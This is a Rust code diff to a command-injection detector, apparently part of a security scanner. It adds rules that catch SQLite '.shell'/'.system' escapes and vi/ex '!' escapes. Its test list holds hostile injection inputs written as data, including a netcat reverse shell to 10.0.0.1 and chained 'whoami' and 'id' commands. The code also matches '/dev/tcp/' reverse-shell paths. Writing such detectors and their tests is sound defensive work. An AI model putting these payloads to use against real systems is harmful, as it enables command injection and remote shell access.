@@ -830,7 +830,7 @@ pub(crate) fn detect(s: &Subject<'_>, _t: &Tables) -> Option<Hit> {
         }
     }
     if s.gate(gate::SHELL_PATH) {
-        if let Some(h) = shell_paths(b) {
+        if let Some(h) = shell_paths(b).or_else(|| sqlite_shell(b)) {
             return Some(h);
         }
     }
@@ -2251,6 +2251,11 @@ fn command_after(
             }
         }
     }
+    if !start && matches!(word, b"vi" | b"vim" | b"ex" | b"view" | b"nvim" | b"rvim") {
+        if let Some(h) = editor_escape(b, sep, w.end) {
+            return Some(h);
+        }
+    }
     // `; $env:USERNAME`: PowerShell reads the function's environment.
     if !start && word.starts_with(b"$env:") && word.len() > 5 {
         return hit("cmdi.command_chain");
@@ -2414,6 +2419,43 @@ fn brace_command(b: &[u8], i: usize) -> bool {
 }
 
 /// Shell binaries by path and reverse-shell devices anywhere in the value.
+/// The SQLite shell's `.shell` and `.system` (run a command) at the start of a line or after
+/// a `;` (`;\n.shell nc …`): a value pasted into a `sqlite3` session escapes to the shell.
+fn sqlite_shell(b: &[u8]) -> Option<Hit> {
+    [&b".shell"[..], b".system"].into_iter().find_map(|needle| {
+        find_iter(b, needle).find_map(|p| {
+            let blank = b[..p]
+                .iter()
+                .rev()
+                .take_while(|c| matches!(c, b' ' | b'\t'))
+                .count();
+            let before = &b[..p - blank];
+            // Where a line starts: the value's start, a line break (or one escaped as text,
+            // `;\n.shell`), a `;`.
+            let line = before.is_empty()
+                || before.ends_with(b"\\n")
+                || matches!(before.last(), Some(b'\n' | b'\r' | b';'));
+            let end = p + needle.len();
+            let argument = b.get(end).is_some_and(|c| matches!(c, b' ' | b'\t'))
+                && b.get(skip_space(b, end))
+                    .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'/');
+            (line && argument).then(|| Hit::new("cmdi.shell_escape", p, end))
+        })
+    })
+}
+
+/// A `!` that runs `cmd` in a vi or ex session opened by the injected command word ending at
+/// `at` (`;vi x +silent\ \!whoami +wq`, `;ex -c:\!pwd`), on the same line.
+fn editor_escape(b: &[u8], sep: usize, at: usize) -> Option<Hit> {
+    let line = &b[at..b.len().min(at + 256)];
+    let line = &line[..memchr::memchr2(b'\n', b'\r', line).unwrap_or(line.len())];
+    memchr::memchr_iter(b'!', line).find_map(|p| {
+        let w = read_word(b, at + p + 1);
+        (w.len > 0 && command_class(&w.text[..w.len]).is_some())
+            .then(|| Hit::new("cmdi.shell_escape", sep, w.end))
+    })
+}
+
 fn shell_paths(b: &[u8]) -> Option<Hit> {
     for needle in [&b"/dev/tcp/"[..], b"/dev/udp/"] {
         if let Some(p) = find(b, needle) {
@@ -2478,6 +2520,13 @@ mod tests {
     #[test]
     fn attacks() {
         for a in [
+            // Shell escapes of the SQLite shell and of vi/ex.
+            "1;\n.shell nc 10.0.0.1 6666 -e sh",
+            "x\n.system id",
+            ";\\n.shell whoami",
+            ";ex dddd +silent\\ \\!whoami +wq",
+            ";ex -c:\\!pwd",
+            "| vim -c ':!id' -c ':q'",
             // The shell's own name.
             ";$0 -c id",
             "|${0} -c id",
@@ -2634,6 +2683,10 @@ mod tests {
     fn prose_passes() {
         for b in [
             "costs nothing; free",
+            "Use vi! It's great",
+            "I love vim! cat pictures are great",
+            "the .shell file in your home",
+            "Run .system checks weekly",
             "Delivery on Monday; free",
             "Price: $0 today",
             "It was $0 -c",
